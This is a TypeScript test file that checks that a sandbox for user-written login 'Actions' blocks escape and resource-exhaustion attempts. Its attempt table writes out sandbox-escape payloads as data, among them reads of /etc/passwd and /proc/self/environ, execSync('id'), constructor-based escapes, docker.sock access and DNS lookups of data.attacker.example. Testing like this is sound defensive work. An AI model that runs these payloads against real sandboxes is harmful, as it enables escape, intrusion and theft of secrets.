/** Code that tries to get out, or to take everything: it is stopped, the sign-in is answered, and the sandbox goes on. */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ActionsTenant, claimsOf } from './support.js';

let tenant: ActionsTenant;
let elsewhere: Server;
let reached = 0;
let person: { email: string };
/** An ordinary Action. */
let well: string;

/** What an attempt leads to: the value it returns, or the error that it meets. */
const ATTEMPTS: [name: string, code: string, seen: RegExp][] = [
  ['reading a file', `require('fs').readFileSync('/etc/hostname', 'utf8')`, /ERR_ACCESS_DENIED/],
  [
    'reading through a file URL',
    `require('node:fs').readFileSync(new URL('file:///etc/hostname'))`,
    /ERR_ACCESS_DENIED/,
  ],
  ['reading with promises', `await require('fs/promises').readFile('/etc/passwd')`, /ERR_ACCESS_DENIED/],
  [
    'reading a stream',
    `await new Promise((_, no) => require('fs').createReadStream('/etc/passwd').on('error', no).on('data', no))`,
    /ERR_ACCESS_DENIED/,
  ],
  [
    'reading the environment of the process',
    `require('fs').readFileSync('/proc/self/environ')`,
    /ERR_ACCESS_DENIED/,
  ],
  ['listing a folder', `require('fs').readdirSync('/')`, /ERR_ACCESS_DENIED/],
  ['writing a file', `require('fs').writeFileSync('/tmp/escaped', 'x')`, /ERR_ACCESS_DENIED/],
  ['a symbolic link', `require('fs').symlinkSync('/etc', '/tmp/escaped')`, /ERR_ACCESS_DENIED/],
  ['starting a program', `require('child_process').execSync('id').toString()`, /ERR_ACCESS_DENIED/],
  ['forking', `require('child_process').fork('/tmp/x.js')`, /ERR_ACCESS_DENIED/],
  ['a worker', `new (require('worker_threads').Worker)('1', { eval: true })`, /ERR_ACCESS_DENIED/],
  ['the inspector', `require('inspector').open(0)`, /ERR_ACCESS_DENIED|not a function/],
  ['WASI', `new (require('wasi').WASI)({ version: 'preview1' })`, /ERR_ACCESS_DENIED/],
  ['the environment', `JSON.stringify(process.env)`, /^\{\}$/],
  ['a binding', `process.binding('tcp_wrap')`, /ERR_ACCESS_DENIED/],
  ['a native addon', `process.dlopen({ exports: {} }, '/tmp/x.node')`, /ERR_ACCESS_DENIED/],
  ['signals to others', `process.kill(1, 0)`, /ERR_ACCESS_DENIED/],
  ['signals below kill', `process._kill(1, 0)`, /ERR_ACCESS_DENIED|not a function/],
  ['debugging others', `process._debugProcess(1)`, /ERR_ACCESS_DENIED|not a function/],
  [
    'putting a guard aside',
    `delete process.kill; Object.defineProperty(process, 'kill', { value: 1 })`,
    /Cannot redefine/,
  ],
  ['flags of V8', `require('v8').setFlagsFromString('--max-old-space-size=9999')`, /ERR_ACCESS_DENIED/],
  ['a heap snapshot', `require('v8').writeHeapSnapshot('/tmp/escaped')`, /ERR_ACCESS_DENIED/],
  [
    'a report',
    `process.report.writeReport('/tmp/escaped')`,
    /Cannot read properties of undefined|ERR_ACCESS_DENIED/,
  ],
  [
    'Function from a constructor',
    `(() => {}).constructor('return process')().binding('fs')`,
    /ERR_ACCESS_DENIED/,
  ],
  [
    'the realm of api',
    `api.access.deny.constructor('return process')().mainModule?.require?.('child_process').execSync('id')`,
    /ERR_ACCESS_DENIED|undefined/,
  ],
  [
    'the realm of event',
    `event.constructor.constructor('return process.env')().PATH ?? 'nothing'`,
    /nothing/,
  ],
  ['the main module', `require('module')._load('child_process').execSync('id')`, /ERR_ACCESS_DENIED/],
  ['getBuiltinModule', `process.getBuiltinModule('child_process').execSync('id')`, /ERR_ACCESS_DENIED/],
  [
    'a dynamic import',
    `(await import('node:fs')).readFileSync('/etc/passwd')`,
    /ERR_ACCESS_DENIED|dynamic import|ERR_VM/,
  ],
  ['another user', `process.setuid(0)`, /ERR_ACCESS_DENIED|not a function/],
  ['fetch to another address', `(await fetch(ELSEWHERE)).status`, /EACCES|fetch failed/],
  ['http', `await new Promise((yes, no) => require('http').get(ELSEWHERE, yes).on('error', no))`, /EACCES/],
  [
    'net',
    `await new Promise((yes, no) => require('net').connect(Number(new URL(ELSEWHERE).port), '127.0.0.1', yes).on('error', no))`,
    /EACCES/,
  ],
  [
    'net over IPv6',
    `await new Promise((yes, no) => require('net').connect(Number(new URL(ELSEWHERE).port), '::1', yes).on('error', no))`,
    /EACCES/,
  ],
  [
    'a raw handle',
    `(() => { const s = new (require('net').Socket)(); s.on('error', () => {}); s.connect(Number(new URL(ELSEWHERE).port), '127.0.0.1'); const h = s._handle; const P = Object.getPrototypeOf(h); return [P.connect.call(h, {}, '127.0.0.1', Number(new URL(ELSEWHERE).port)), Object.getOwnPropertyDescriptor(P, 'connect').writable]; })().join()`,
    /^-13,false$/,
  ],
  [
    'replacing the guard of a handle',
    `(() => { 'use strict'; const s = new (require('net').Socket)(); s.on('error', () => {}); s.connect(1, '127.0.0.1'); Object.getPrototypeOf(s._handle).connect = 1; })()`,
    /read only|Cannot assign/,
  ],
  [
    'a server',
    `await new Promise((yes, no) => require('net').createServer().on('error', no).listen(0, '127.0.0.1', () => yes('listening')))`,
    /EACCES/,
  ],
  [
    'a pipe',
    `await new Promise((yes, no) => require('net').connect('/var/run/docker.sock', yes).on('error', no))`,
    /EACCES/,
  ],
  [
    'UDP',
    `await new Promise((yes, no) => { const u = require('dgram').createSocket('udp4'); u.on('error', no); u.send('x', 53, '127.0.0.1', (e) => e ? no(e) : yes('sent')); })`,
    /EACCES/,
  ],
  [
    'a redirect of the sandbox',
    `(await fetch('http://' + event.request.hostname + '/v2/logout?client_id=' + event.client.client_id + '&returnTo=' + encodeURIComponent(ELSEWHERE))).status`,
    /fetch failed.*EACCES/,
  ],
  [
    'an address spelled otherwise',
    `(await fetch('http://0x7f.1:' + new URL(ELSEWHERE).port)).status`,
    /fetch failed.*EACCES/,
  ],
  [
    'an IPv4 address in IPv6',
    `await new Promise((yes, no) => require('net').connect(Number(new URL(ELSEWHERE).port), '::ffff:127.0.0.1', yes).on('error', no))`,
    /EACCES/,
  ],
  [
    'HTTP/2',
    `await new Promise((yes, no) => require('http2').connect(ELSEWHERE).on('connect', yes).on('error', no))`,
    /EACCES/,
  ],
  [
    'a handle made by hand',
    `(() => { const s = new (require('net').Socket)(); s.on('error', () => {}); s.connect(1, '127.0.0.1'); const h = new s._handle.constructor(0); return [h.open(3), h.connect({}, '127.0.0.1', Number(new URL(ELSEWHERE).port))].join(); })()`,
    /^-13,-13$/,
  ],
  [
    'hooks of modules, which have a thread of their own',
    `require('module').register('data:text/javascript,' + encodeURIComponent('import http from "node:http"; http.get("' + ELSEWHERE + '")'))`,
    /ERR_ACCESS_DENIED/,
  ],
  ['a session of the inspector', `new (require('inspector').Session)().connect()`, /ERR_ACCESS_DENIED/],
  [
    'a file of environment variables',
    `process.loadEnvFile('/etc/hostname')`,
    /ERR_ACCESS_DENIED|not a function/,
  ],
  ['a temporary folder', `require('fs').mkdtempSync('/tmp/escaped-')`, /ERR_ACCESS_DENIED/],
  ['copying a folder', `require('fs').cpSync('/etc/hostname', '/tmp/escaped')`, /ERR_ACCESS_DENIED/],
  [
    'a path in bytes',
    `require('fs').readFileSync(new TextEncoder().encode('/etc/hostname'))`,
    /ERR_ACCESS_DENIED/,
  ],
  ['watching a file', `require('fs').watch('/etc')`, /ERR_ACCESS_DENIED/],
  [
    'another context',
    `require('vm').runInNewContext('this.constructor.constructor("return process")().binding("fs")')`,
    /ERR_ACCESS_DENIED|process is not defined/,
  ],
  [
    'an import of another context',
    `(await require('vm').runInThisContext("import('node:child_process')", { importModuleDynamically: require('vm').constants?.USE_MAIN_CONTEXT_DEFAULT_LOADER })).execSync('id')`,
    /ERR_ACCESS_DENIED|ERR_VM/,
  ],
  [
    'an import of text',
    `(await import('data:text/javascript,export default 1')).default`,
    /ERR_VM|dynamic import/,
  ],
  ['the loader of the main module', `process.mainModule.require('/etc/hostname')`, /ERR_ACCESS_DENIED/],
  [
    'the constructor of the module',
    `module.constructor._load?.('child_process').execSync('id')`,
    /^undefined$/,
  ],
  [
    'functions on the stack',
    `(() => { Error.prepareStackTrace = (_e, frames) => frames; const { stack } = new Error(); Error.prepareStackTrace = undefined; return stack.filter((frame) => !String(frame.getFileName()).endsWith('action.js')).map((frame) => typeof frame.getFunction() + typeof frame.getThis()).join(); })()`,
    /^(undefinedundefined,?)+$/,
  ],
  [
    'orders in the name of the sandbox',
    `(() => { const more = JSON.stringify({ load: { kind: 'action', code: '', methods: [], modules: {}, dependencies: {}, network: true, sandbox: { host: 'x', port: Number(new URL(ELSEWHERE).port), innerPort: Number(new URL(ELSEWHERE).port) } } }); try { process.stdin.emit('data', Buffer.from(more + '\\n')); } catch (e) { return e.message; } return 'taken'; })() + await fetch(ELSEWHERE).catch((e) => ' ' + e.cause.code)`,
    /Cannot redefine.*EACCES/,
  ],
  [
    'names of prototypes',
    `(api.user.setAppMetadata('__proto__', { polluted: 1 }), api.idToken.setCustomClaim('__proto__', { polluted: 1 }), api.transaction.setMetadata('__proto__', 1), api.cache.set('__proto__', 'x'), ({}).polluted ?? 'clean')`,
    /^clean$/,
  ],
  [
    'dates without end',
    `(api.session.setExpiresAt(1e300), api.session.setIdleExpiresAt(NaN), api.refreshToken.setExpiresAt(-1e300), 'set')`,
    /^set$/,
  ],
  ['a name', `await require('dns').promises.lookup('data.attacker.example')`, /out of reach/],
  ['a name in fetch', `await fetch('http://data.attacker.example/')`, /fetch failed/],
  [
    'a resolver',
    `await new (require('dns').promises.Resolver)().resolveTxt('data.attacker.example')`,
    /EACCES|query/i,
  ],
  ['resolve4', `await require('dns').promises.resolve4('data.attacker.example')`, /EACCES|query/i],
  [
    'resetting the sandbox',
    `(await fetch('http://' + event.request.hostname + '/_sandbox/reset', { method: 'POST' })).status`,
    /^404$/,
  ],
  [
    'resetting it by another spelling',
    `(await fetch('http://' + event.request.hostname + '//_sandbox/reset', { method: 'POST' })).status`,
    /^404$/,
  ],
  [
    'the sandbox without a token',
    `(await fetch('http://' + event.request.hostname + '/api/v2/users')).status`,
    /^401$/,
  ],
];

beforeAll(async () => {
  elsewhere = createServer((_request, reply) => {
    reached += 1;
    reply.end('reached');
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  tenant = await ActionsTenant.start({
    actions: { budgetMs: 20_000, limits: { heapMb: 48, residentMb: 256 } },
  });
  person = await tenant.person();
  await tenant.client.api('PATCH', `/clients/${tenant.app.client_id}`, {
    allowed_logout_urls: [`http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`],
  });
  well = await tenant.deploy(
    'post-login',
    `exports.onExecutePostLogin = async (event, api) => api.idToken.setCustomClaim('well', true)`,
  );
});
afterAll(async () => {
  await tenant.close();
  await new Promise((resolve) => elsewhere.close(resolve));
});

/** An ordinary sign-in through an ordinary Action: the sandbox is well. */
async function goesOn(): Promise<void> {
  await tenant.bind('post-login', [well]);
  expect(claimsOf((await tenant.signIn(person.email)).body.id_token).well).toBe(true);
}

describe('an Action cannot get out', () => {
  beforeAll(async () => {
    const address = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`;
    const bodies = ATTEMPTS.map(
      ([, code]) =>
        `let seen; try { seen = ${code.replaceAll('ELSEWHERE', JSON.stringify(address))}; } catch (e) { seen = [e.code, e.message, e.cause?.code].join(' '); } api.idToken.setCustomClaim('seen', String(seen));`,
    );
    await tenant.cases('post-login', 'onExecutePostLogin', bodies);
  });

  it.each(ATTEMPTS.map((one, at) => [one[0], at, one[2]] as const))('by %s', async (_name, at, expected) => {
    const { status, body } = await tenant.signIn(person.email, { case: String(at) });
    expect(status).toBe(200);
    expect(String(claimsOf(body.id_token).seen)).toMatch(expected);
    expect(reached).toBe(0);
  });
});

describe('an Action cannot take everything', () => {
  it.each([
    ['memory of V8', `const all = []; for (;;) all.push(new Array(1e6).fill(0))`, /too much memory/],
    [
      'memory of buffers',
      `const all = []; for (;;) { all.push(Buffer.alloc(32e6, 1)); await new Promise((r) => setTimeout(r, 20)); }`,
      /too much memory/,
    ],
    ['calls of api', `for (;;) api.idToken.setCustomClaim('x', 1)`, /too many calls/],
    [
      'memory of WebAssembly',
      `const all = []; for (;;) { const m = new WebAssembly.Memory({ initial: 512 }); new Uint8Array(m.buffer).fill(1); all.push(m); await new Promise((r) => setTimeout(r, 20)); }`,
      /too much memory/,
    ],
    [
      'a rejection that nobody handles',
      `Promise.reject(new Error('left alone')); await new Promise(() => {})`,
      /left alone/,
    ],
    ['the end below exit', `process.reallyExit(0)`, /process of the Action ended/],
    ['the end of its process', `process.exit(0)`, /process of the Action ended/],
    ['an abort', `process.abort()`, /process of the Action ended/],
    ['a value that does not end', `api.idToken.setCustomClaim('x', 'y'.repeat(6e6))`, /larger than 100 kB/],
    [
      'a forged answer',
      `require('fs').writeSync(3, '{"done":{"commands":[{"method":"access.deny","args":["forged"]}]}}\\n'); await new Promise(() => {})`,
      /forged/,
    ],
    [
      'an answer without end',
      `const w = () => { try { require('fs').writeSync(3, 'x'.repeat(65536)); } catch {} setImmediate(w); }; w(); await new Promise(() => {})`,
      /answered too much/,
    ],
    ['a circle', `const a = {}; a.a = a; api.idToken.setCustomClaim('x', a)`, /circular/],
    ['a big number', `api.idToken.setCustomClaim('x', 10n)`, /BigInt/],
  ])('not %s', async (_name, body, message) => {
    await tenant.postLogin([body]);
    const answer = await tenant.signIn(person.email);
    expect(answer.status).toBe(403);
    expect(answer.body.error_description).toMatch(message);
    await goesOn();
  });

  it('not the log', async () => {
    await tenant.postLogin([`for (let i = 0; i < 20000; i += 1) console.log('line ' + i)`]);
    expect((await tenant.signIn(person.email)).status).toBe(200);
    const { details } = await tenant.newestEvent('s');
    const [{ logs }] = (await tenant.get(`/actions/executions/${details.execution_id}`)).results;
    expect(logs.at(-1).text).toMatch(/more lines were left out/);
    expect(JSON.stringify(logs).length).toBeLessThan(700_000);
  });

  it.each([
    ['an endless loop', 'for (;;);'],
    ['an answer that never comes', 'await new Promise(() => {})'],
    ['a wait on shared memory', 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)'],
    ['a promise that chases its tail', 'for (;;) await null'],
  ])('not the time: %s ends with the budget', async (_name, body) => {
    await tenant.postLogin([`await fetch('http://' + event.request.hostname + '/started'); ${body}`]);
    const answer = tenant.signIn(person.email);
    await started();
    await tenant.client.raw('POST', '/_sandbox/clock', { advance_ms: 20_000 });
    expect((await answer).body).toEqual({
      error: 'access_denied',
      error_description: 'Script execution did not complete within 20 seconds.',
    });
    const { details } = await tenant.newestEvent('f');
    const execution = await tenant.get(`/actions/executions/${details.execution_id}`);
    expect(execution.results[0].error.id).toBe('timeout');
    await goesOn();
  });

  it('not more time than is left by the Actions before it', async () => {
    const wait = `await fetch('http://' + event.request.hostname + '/started')`;
    await tenant.postLogin([wait, `${wait}; await new Promise(() => {})`]);
    const answer = tenant.signIn(person.email);
    await started(2);
    await tenant.client.raw('POST', '/_sandbox/clock', { advance_ms: 20_000 });
    expect((await answer).body.error_description).toMatch(/did not complete/);
    await goesOn();
  });
});

let notices = 0;

/** Waits until the Actions have called the sandbox so often since the last time. */
async function started(more = 1): Promise<void> {
  const until = notices + more;
  for (;;) {
    const { body } = await tenant.client.raw('GET', '/_sandbox/requests');
    const seen = (body as { path: string }[]).filter(({ path }) => path === '/started').length;
    if (seen >= until) {
      notices = seen;
      return;
    }
  }
}
